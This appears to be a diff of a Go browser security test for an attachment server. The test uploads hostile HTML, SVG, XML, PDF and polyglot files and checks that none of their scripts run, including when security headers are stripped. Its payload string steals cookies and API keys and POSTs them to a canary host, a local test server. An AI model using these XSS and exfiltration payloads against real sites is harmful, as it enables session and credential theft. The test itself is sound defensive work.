@@ -2,375 +2,183 @@ package server_test
 
 import (
 	"context"
-	"encoding/json"
-	"errors"
 	"flag"
 	"fmt"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
 	"net/url"
-	"os"
-	"os/exec"
-	"path/filepath"
-	"slices"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
-	"github.com/chromedp/cdproto/browser"
-	"github.com/chromedp/cdproto/cdp"
-	"github.com/chromedp/cdproto/dom"
-	"github.com/chromedp/cdproto/emulation"
-	"github.com/chromedp/cdproto/input"
-	devlog "github.com/chromedp/cdproto/log"
 	"github.com/chromedp/cdproto/network"
-	devpage "github.com/chromedp/cdproto/page"
-	devruntime "github.com/chromedp/cdproto/runtime"
+	"github.com/chromedp/cdproto/page"
+	"github.com/chromedp/cdproto/storage"
 	"github.com/chromedp/chromedp"
+
+	"attachd/server"
+	"attachd/server/content"
 )
 
-var (
-	withBrowser = flag.Bool("browser", false, "run the tests of the page that need Chromium")
-	axeFile     = flag.String("axe", "", "axe.min.js of axe-core: with it, the page is searched for barriers")
-	pictures    = flag.String("pictures", "", "a directory for pictures of the page")
-)
+var inBrowser = flag.Bool("browser", false, "run the tests that need a real browser, chromium: the page, and hostile files")
 
-// How long the page may take for one thing.
-const patience = 20 * time.Second
+// What a file that runs would do: show it, leave a trace, call home.
+const mischief = `document.cookie='pwned=1';localStorage.pwned=1;new Image().src='CANARY';fetch('CANARY');fetch('/api-keys',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('CANARY',{method:'POST',body:t}));alert(1)`
 
-// chromium is started once for all tests, with a profile of its own.
-var chromium = sync.OnceValues(func() (context.Context, error) {
-	var path string
-	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
-		if found, err := exec.LookPath(name); err == nil {
-			path = found
-			break
-		}
-	}
-	if path == "" {
-		return nil, errors.New("no Chromium was found: install it, for example with apt-get install chromium")
-	}
-	ctx, _ := chromedp.NewExecAllocator(context.Background(), chromedp.ExecPath(path), chromedp.Headless, chromedp.NoSandbox,
-		chromedp.DisableGPU, chromedp.NoFirstRun, chromedp.Flag("disable-background-networking", true),
-		chromedp.Flag("disable-component-update", true), chromedp.Flag("disable-sync", true), chromedp.Flag("lang", "en-GB"),
-		chromedp.Flag("hide-scrollbars", false), chromedp.WindowSize(1280, 800))
-	ctx, closeBrowser = chromedp.NewContext(ctx)
-	return ctx, chromedp.Do(ctx)
-})
-
-var closeBrowser = func() {}
-
-// tab is a tab of the browser that shows the page of a world. When the test is
-// over, its console must have been silent, but for refusals that the test says
-// it expects, and it must have asked no other host.
-type tab struct {
-	*testing.T
-	w   *world
-	ctx context.Context
-
-	mu       sync.Mutex
-	problems []string
-	expected []string // parts of what the console may say
+// hostileFiles are those in which a browser might run something.
+var hostileFiles = []struct {
+	name, content string
+	harmless      bool // even without our headers: there only to see what they do
+}{
+	{name: "page.html", content: `<!doctype html><body onload="MISCHIEF"><script>MISCHIEF</script><img src=x onerror="MISCHIEF"><svg onload="MISCHIEF"></svg><iframe srcdoc="<script>MISCHIEF</script>"></iframe><meta http-equiv=refresh content="0;url=CANARY"><form action=CANARY id=f><input name=a></form><script>f.submit()</script>`},
+	{name: "picture.svg", content: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="MISCHIEF"><script>MISCHIEF</script><image href="CANARY"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="CANARY"/></body></foreignObject></svg>`},
+	{name: "data.xml", content: `<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml">MISCHIEF</script></x>`},
+	{name: "styled.xml", content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:stylesheet id="s" version="1.0"><xsl:template match="/"><html><script>MISCHIEF</script></html></xsl:template></xsl:stylesheet></x>`, harmless: true},
+	{name: "page.xhtml", content: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body onload="MISCHIEF"><script>MISCHIEF</script></body></html>`},
+	{name: "notes.txt", content: `<script>MISCHIEF</script>`, harmless: true},
+	{name: "table.csv", content: `<html><script>MISCHIEF</script>,1` + "\n", harmless: true},
+	{name: "picture.gif", content: "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;<script>MISCHIEF</script>", harmless: true},
+	{name: "paper.pdf", content: "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('CANARY'\\);this.submitForm\\('CANARY'\\);)>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n<script>MISCHIEF</script>", harmless: true},
 }
 
-func newTab(t *testing.T, w *world) *tab {
-	t.Helper()
-	if !*withBrowser {
-		t.Skip("needs Chromium: run with `go test ./server -run Page -browser`")
+// How long mischief takes at most; that of a file without our headers, which
+// succeeds, is waited for as long as the others, which do not.
+const mischiefTime = 500 * time.Millisecond
+
+// No file runs in the origin of attachd, whatever it is and however it is
+// opened, and not even when something on the way takes Content-Disposition
+// away.
+// ASVS 1.2.1, 1.3.4; CVE-2026-27616, CVE-2019-20102, GO-2026-5511
+func TestABrowserRunsNothing(t *testing.T) {
+	if !*inBrowser {
+		t.Skip("a real browser opens hostile files with: go test ./server -run Browser -browser")
 	}
-	root, err := chromium()
+	var called atomic.Int64
+	canary := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { called.Add(1) }))
+	defer canary.Close()
+	policy, err := content.NewPolicy([]string{"*"}, true)
 	if err != nil {
 		t.Fatal(err)
 	}
-	ctx, cancel := chromedp.NewContext(root, chromedp.WithNewBrowserContext())
-	tb := &tab{T: t, w: w, ctx: ctx}
-	t.Cleanup(tb.checkConsole)
-	t.Cleanup(cancel)
-	tb.must(chromedp.Listen(ctx, tb.watch))
-	call(tb, devlog.Enable, cdp.Empty{})
-	call(tb, devruntime.Enable, cdp.Empty{})
-	call(tb, network.Enable, network.EnableParams{})
-	tb.look(1280, 800, "light")
-	return tb
-}
+	w := newWorld(t, func(c *server.Config) { c.Policy, c.Log = policy, slog.New(slog.DiscardHandler) })
+	signedIn := w.do(t, step{do: "POST /session", json: `{"key": "` + w.keys["viewer"] + `"}`, want: 200})
+	session, _, _ := strings.Cut(strings.TrimPrefix(signedIn.header.Get("Set-Cookie"), "attachd_session="), ";")
 
-func (t *tab) watch(ev any) {
-	t.mu.Lock()
-	defer t.mu.Unlock()
-	switch ev := ev.(type) {
-	case *devruntime.EventConsoleAPICalled:
-		raw, _ := json.Marshal(ev.Args)
-		t.problems = append(t.problems, fmt.Sprintf("console.%s %s", ev.Type, raw))
-	case *devruntime.EventExceptionThrown:
-		raw, _ := json.Marshal(ev.ExceptionDetails)
-		t.problems = append(t.problems, "exception "+string(raw))
-	case *devlog.EventEntryAdded:
-		t.problems = append(t.problems, fmt.Sprintf("%s: %s %s", ev.Entry.Source, ev.Entry.Text, ev.Entry.URL))
-	case *network.EventRequestWillBeSent:
-		u, err := url.Parse(ev.Request.URL)
-		local := err == nil && ("http://"+u.Host == t.w.url || slices.Contains([]string{"blob", "data", "about", "chrome", "chrome-extension"}, u.Scheme))
-		if !local {
-			t.problems = append(t.problems, "asked another host: "+ev.Request.URL)
+	for _, way := range []string{"in a window", "without Content-Disposition", "without any of our headers"} {
+		at := strip(t, w.url, map[string][]string{
+			"in a window":                 nil,
+			"without Content-Disposition": {"Content-Disposition"},
+			"without any of our headers":  {"Content-Disposition", "Content-Security-Policy", "X-Content-Type-Options"},
+		}[way])
+		for _, f := range hostileFiles {
+			done := strings.NewReplacer("MISCHIEF", mischief, "CANARY", canary.URL).Replace(f.content)
+			done = strings.ReplaceAll(done, "CANARY", canary.URL)
+			w.play(t, []step{
+				{as: "editor", do: "POST {product}/attachments", form: parts{file(f.name, done)}, want: 201, save: "A"},
+				{as: "viewer", do: "POST /catalog/attachments/{A}/links", want: 201, save: "link"},
+				{as: "viewer", do: "POST /catalog/attachments/{A}/links", json: `{"disposition": "inline"}`, want: 201, save: "inline"},
+			})
+			paths := []string{"{A.at}", "{link}", "{inline}"}
+			if way == "without any of our headers" {
+				paths = paths[:1] // they are all alike then
+			}
+			for _, path := range paths {
+				t.Run(fmt.Sprint(f.name, " ", path, " ", way), func(t *testing.T) {
+					browser := startBrowser(t) // one for each: what ran in another must not count
+					called.Store(0)
+					dialogs, cookies := browser.open(t, at+w.fill(t, path), session)
+					ran := dialogs > 0 || called.Load() > 0 || strings.Contains(cookies, "pwned")
+					switch {
+					case !strings.Contains(cookies, "attachd_session="+session):
+						t.Errorf("the session is lost: %s", cookies)
+					case way != "without any of our headers" && ran:
+						t.Errorf("%d dialogs, %d calls, cookies %s", dialogs, called.Load(), cookies)
+					case way == "without any of our headers" && !ran && !f.harmless:
+						t.Error("it runs nothing even so: this test would see nothing")
+					}
+				})
+			}
 		}
 	}
 }
 
-// expect says that the console may have this in it.
-func (t *tab) expect(part string) {
-	t.mu.Lock()
-	defer t.mu.Unlock()
-	t.expected = append(t.expected, part)
-}
-
-func (t *tab) checkConsole() {
-	t.mu.Lock()
-	defer t.mu.Unlock()
-	for _, problem := range t.problems {
-		if !slices.ContainsFunc(t.expected, func(part string) bool { return strings.Contains(problem, part) }) {
-			t.Errorf("the browser says: %.600s", problem)
-		}
-	}
-}
-
-func (t *tab) must(err error) {
-	t.Helper()
+// strip is a proxy to the server that takes headers away.
+func strip(t *testing.T, address string, headers []string) string {
+	to, err := url.Parse(address)
 	if err != nil {
 		t.Fatal(err)
 	}
+	proxy := httputil.NewSingleHostReverseProxy(to)
+	proxy.ModifyResponse = func(r *http.Response) error {
+		for _, name := range headers {
+			r.Header.Del(name)
+		}
+		return nil
+	}
+	s := httptest.NewServer(proxy)
+	t.Cleanup(s.Close)
+	return s.URL
 }
 
-// look sets the size of the screen, in pixels, and the colours of the theme.
-func (t *tab) look(width, height int64, scheme string) {
+type browser struct{ context.Context }
+
+func startBrowser(t *testing.T) browser {
 	t.Helper()
-	call(t, emulation.SetDeviceMetricsOverride, emulation.SetDeviceMetricsOverrideParams{Width: width, Height: height, DeviceScaleFactor: 1, Mobile: false})
-	call(t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{
-		{Name: "prefers-color-scheme", Value: scheme}, {Name: "prefers-reduced-motion", Value: "reduce"}}})
-	// Until it is laid out and drawn.
-	eval[bool](t, `new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(() => done(true), 50))))`)
+	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath("chromium"), chromedp.NoSandbox,
+		chromedp.UserDataDir(t.TempDir()), chromedp.Flag("disable-gpu", true), chromedp.Flag("disable-component-update", true))
+	ctx, stop := chromedp.NewExecAllocator(context.Background(), options...)
+	t.Cleanup(stop)
+	ctx, closeTab := chromedp.NewContext(ctx)
+	t.Cleanup(closeTab)
+	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil {
+		t.Fatal(err)
+	}
+	return browser{ctx}
 }
 
-// open goes to an address of the page. It is loaded anew, whatever is shown.
-func (t *tab) open(hash string) {
+// open opens an address in a tab of its own, signed in, and tells what
+// happened: how many dialogs came up, and the cookies afterwards.
+func (b browser) open(t *testing.T, address, session string) (dialogs int64, cookies string) {
 	t.Helper()
-	t.must(chromedp.Do(t.ctx, chromedp.Navigate("about:blank"), chromedp.Navigate(t.w.url+"/"+hash)))
-}
-
-// signIn opens an address with the session of somebody.
-func (t *tab) signIn(as, hash string) {
-	t.Helper()
-	t.open(hash)
-	t.until(`document.querySelector('.signin input')`)
-	t.typeIn(".signin input", t.w.keys[as])
-	t.press("Enter", 0)
-	t.until(`document.querySelector('.app')`)
-}
-
-// eval gives what an expression is in the page; a promise is waited for.
-func eval[T any](t *tab, expression string) T {
-	t.Helper()
-	v, err := chromedp.Run(t.ctx, chromedp.Evaluate[T](expression, chromedp.EvalAwaitPromise))
+	ctx, closeTab := chromedp.NewContext(b)
+	defer closeTab()
+	var shown atomic.Int64
+	opening := chromedp.Events(ctx, page.JavascriptDialogOpening)
+	var answering sync.WaitGroup
+	defer answering.Wait()
+	defer closeTab()
+	answering.Go(func() {
+		for _, err := range opening {
+			if err != nil {
+				return
+			}
+			shown.Add(1)
+			// The page waits for it; one that is gone by then does not.
+			_, _ = chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
+		}
+	})
+	if _, err := chromedp.Call(ctx, storage.ClearCookies, storage.ClearCookiesParams{}); err != nil {
+		t.Fatal(err)
+	}
+	cookie := &network.CookieParam{Name: "attachd_session", Value: session, URL: address, HTTPOnly: true, SameSite: network.CookieSameSiteStrict}
+	if _, err := chromedp.Call(ctx, storage.SetCookies, storage.SetCookiesParams{Cookies: []*network.CookieParam{cookie}}); err != nil {
+		t.Fatal(err)
+	}
+	opened, err := chromedp.Call(ctx, page.Navigate, page.NavigateParams{URL: address})
+	if err != nil || opened.ErrorText != "" && !opened.IsDownload {
+		t.Fatalf("opening: %v %s", err, opened.ErrorText)
+	}
+	time.Sleep(mischiefTime)
+	jar, err := chromedp.Call(ctx, storage.GetCookies, storage.GetCookiesParams{})
 	if err != nil {
-		t.Fatalf("%s: %v", expression, err)
+		t.Fatal(err)
 	}
-	return v
-}
-
-// until waits for an expression to be true.
-func (t *tab) until(expression string) {
-	t.Helper()
-	for deadline := time.Now().Add(patience); ; time.Sleep(20 * time.Millisecond) {
-		v, err := chromedp.Run(t.ctx, chromedp.Evaluate[bool]("Boolean("+expression+")"))
-		if err == nil && v {
-			return
-		}
-		if time.Now().After(deadline) {
-			t.picture("failed-" + strings.ReplaceAll(t.Name(), "/", "-"))
-			t.Fatalf("it never came true: %s (%v)\nthe page says: %s", expression, err, eval[string](t, "document.body.innerText"))
-		}
+	for _, c := range jar.Cookies {
+		cookies += c.Name + "=" + c.Value + " "
 	}
-}
-
-// innerText is what an element e says; a file's name is one word, though its
-// end stands in an element of its own.
-const innerText = `(e.innerText ?? '').replace(/\s*\n(?=\.)/g, '')`
-
-// shows waits for an element that a selector finds to have this in its text.
-func (t *tab) shows(selector, text string) {
-	t.Helper()
-	t.until(fmt.Sprintf(`[...document.querySelectorAll(%q)].some((e) => e.checkVisibility() && (%s + ' ' + (e.value ?? '')).includes(%q))`, selector, innerText, text))
-}
-
-// gone waits until no element that a selector finds has this in its text.
-func (t *tab) gone(selector, text string) {
-	t.Helper()
-	t.until(fmt.Sprintf(`![...document.querySelectorAll(%q)].some((e) => e.checkVisibility() && %s.includes(%q))`, selector, innerText, text))
-}
-
-// click clicks with the mouse on the first element that is in sight, by its
-// selector and its text or name.
-func (t *tab) click(selector, text string, modifiers ...int64) {
-	t.Helper()
-	find := fmt.Sprintf(`[...document.querySelectorAll(%q)].find((e) => e.checkVisibility() && !e.disabled && (%s + ' ' + (e.getAttribute('aria-label') ?? '')).includes(%q))`, selector, innerText, text)
-	t.until(find)
-	at := eval[[2]float64](t, fmt.Sprintf(`(() => { const e = %s; e.scrollIntoView({ block: 'nearest' }); const r = e.getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()`, find))
-	var modifier int64
-	for _, m := range modifiers {
-		modifier |= m
-	}
-	for _, kind := range []input.DispatchMouseEventType{"mouseMoved", "mousePressed", "mouseReleased"} {
-		p := input.DispatchMouseEventParams{Type: kind, X: at[0], Y: at[1], Modifiers: modifier}
-		if kind != "mouseMoved" {
-			p.Button, p.ClickCount = "left", 1
-		}
-		call(t, input.DispatchMouseEvent, p)
-	}
-}
-
-// typeIn writes into a field in place of what it holds.
-func (t *tab) typeIn(selector, text string) {
-	t.Helper()
-	t.until(fmt.Sprintf(`document.querySelector(%q)`, selector))
-	eval[bool](t, fmt.Sprintf(`(() => { const e = document.querySelector(%q); e.focus(); e.select(); return true; })()`, selector))
-	call(t, input.InsertText, input.InsertTextParams{Text: text})
-}
-
-const (
-	ctrl  = 2
-	shift = 8
-)
-
-// The codes that Windows has for keys: the browser wants them.
-var keyCodes = map[string]int64{"Enter": 13, "Escape": 27, " ": 32, "End": 35, "Home": 36, "ArrowUp": 38, "ArrowDown": 40, "Delete": 46, "Tab": 9, "a": 65, "v": 86}
-
-// press presses a key; commands are what the browser makes of it.
-func (t *tab) press(key string, modifiers int64, commands ...string) {
-	t.Helper()
-	p := input.DispatchKeyEventParams{Type: "keyDown", Key: key, Code: key, Modifiers: modifiers, WindowsVirtualKeyCode: keyCodes[key], Commands: commands}
-	if key == "Enter" {
-		p.Text = "\r"
-	} else if key == " " {
-		p.Text = " "
-	}
-	call(t, input.DispatchKeyEvent, p)
-	p.Type, p.Text, p.Commands = "keyUp", "", nil
-	call(t, input.DispatchKeyEvent, p)
-}
-
-// drop drops files or folders of this machine on an element.
-func (t *tab) drop(selector string, paths ...string) {
-	t.Helper()
-	at := eval[[2]float64](t, fmt.Sprintf(`(() => { const r = document.querySelector(%q).getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()`, selector))
-	for _, kind := range []input.DispatchDragEventType{"dragEnter", "dragOver", "drop"} {
-		call(t, input.DispatchDragEvent, input.DispatchDragEventParams{Type: kind, X: at[0], Y: at[1],
-			Data: &input.DragData{Items: []*input.DragDataItem{}, Files: paths, DragOperationsMask: 1}})
-	}
-}
-
-// pick chooses files with the page's button for that.
-func (t *tab) pick(paths ...string) {
-	t.Helper()
-	input := call(t, devruntime.Evaluate, devruntime.EvaluateParams{Expression: `document.querySelector('input[type=file]')`})
-	call(t, dom.SetFileInputFiles, dom.SetFileInputFilesParams{Files: paths, ObjectID: input.Result.ObjectID})
-}
-
-// eventually waits for something outside of the page.
-func (t *tab) eventually(what string, is func() bool) {
-	t.Helper()
-	for deadline := time.Now().Add(patience); !is(); time.Sleep(20 * time.Millisecond) {
-		if time.Now().After(deadline) {
-			t.Fatalf("it never happened: %s", what)
-		}
-	}
-}
-
-// slow bounds what the page sends, in bytes a second; 0 cuts the network.
-func (t *tab) slow(upload float64) {
-	t.Helper()
-	call(t, network.EmulateNetworkConditionsByRule, network.EmulateNetworkConditionsByRuleParams{MatchedNetworkConditions: []*network.Conditions{
-		{Offline: upload == 0, DownloadThroughput: -1, UploadThroughput: upload}}})
-	call(t, network.OverrideNetworkState, network.OverrideNetworkStateParams{Offline: upload == 0, DownloadThroughput: -1, UploadThroughput: upload})
-}
-
-func (t *tab) fast() {
-	t.Helper()
-	t.slow(-1)
-}
-
-// downloads has the browser put downloads into a directory.
-func (t *tab) downloads() (dir string) {
-	t.Helper()
-	dir = t.TempDir()
-	c := chromedp.FromContext(t.ctx)
-	_, err := chromedp.CallBrowser(t.ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: "allow", BrowserContextID: c.BrowserContextID, DownloadPath: dir})
-	t.must(err)
-	return dir
-}
-
-// grant allows the page to use the clipboard without asking.
-func (t *tab) grant(names ...string) {
-	t.Helper()
-	c := chromedp.FromContext(t.ctx)
-	for _, name := range names {
-		_, err := chromedp.CallBrowser(t.ctx, browser.SetPermission, browser.SetPermissionParams{
-			Permission: &browser.PermissionDescriptor{Name: name}, Setting: "granted", BrowserContextID: c.BrowserContextID})
-		t.must(err)
-	}
-}
-
-// picture takes one of what is on the screen, if somebody wants to look.
-func (t *tab) picture(name string) {
-	t.Helper()
-	if *pictures == "" {
-		return
-	}
-	shot := call(t, devpage.CaptureScreenshot, devpage.CaptureScreenshotParams{})
-	t.must(os.MkdirAll(*pictures, 0o755))
-	t.must(os.WriteFile(filepath.Join(*pictures, name+".png"), shot.Data, 0o644))
-}
-
-// call sends the tab a command of the DevTools protocol.
-func call[P, R any](t *tab, command cdp.Command[P, R], params P) R {
-	t.Helper()
-	result, err := chromedp.Call(t.ctx, command, params)
-	if err != nil {
-		t.Fatalf("%s: %v", command.Method, err)
-	}
-	return result
-}
-
-// views are the screens and themes in which people see the page.
-var views = []struct {
-	name          string
-	width, height int64
-	scheme        string
-}{{"light", 1280, 800, "light"}, {"dark", 1280, 800, "dark"}, {"phone", 360, 740, "light"}, {"phone-dark", 360, 740, "dark"}}
-
-// inspect takes pictures in every view, and looks in each for barriers (with
-// axe-core) and for anything that is wider than the screen.
-func (t *tab) inspect(name string) {
-	t.Helper()
-	for _, v := range views {
-		t.look(v.width, v.height, v.scheme)
-		t.picture(name + "-" + v.name)
-		if wide := eval[int](t, `document.documentElement.scrollWidth - innerWidth`); wide > 0 {
-			t.Errorf("%s: %s is %d pixels wider than the screen", v.name, name, wide)
-		}
-		t.findBarriers(name + " in " + v.name)
-	}
-	t.look(1280, 800, "light")
-}
-
-func (t *tab) findBarriers(where string) {
-	t.Helper()
-	if *axeFile == "" {
-		return
-	}
-	if !eval[bool](t, `typeof axe === 'object'`) {
-		source, err := os.ReadFile(*axeFile)
-		t.must(err)
-		t.must(chromedp.Do(t.ctx, chromedp.Evaluate[chromedp.Void](string(source))))
-	}
-	found := eval[[]string](t, `axe.run(document, { resultTypes: ['violations'] }).then((r) => r.violations.flatMap((v) => v.nodes.map((n) => v.id + ': ' + n.html.slice(0, 200) + ' ' + (n.failureSummary ?? ''))))`)
-	for _, barrier := range found {
-		t.Errorf("%s: %s", where, barrier)
-	}
+	return shown.Load(), cookies
 }
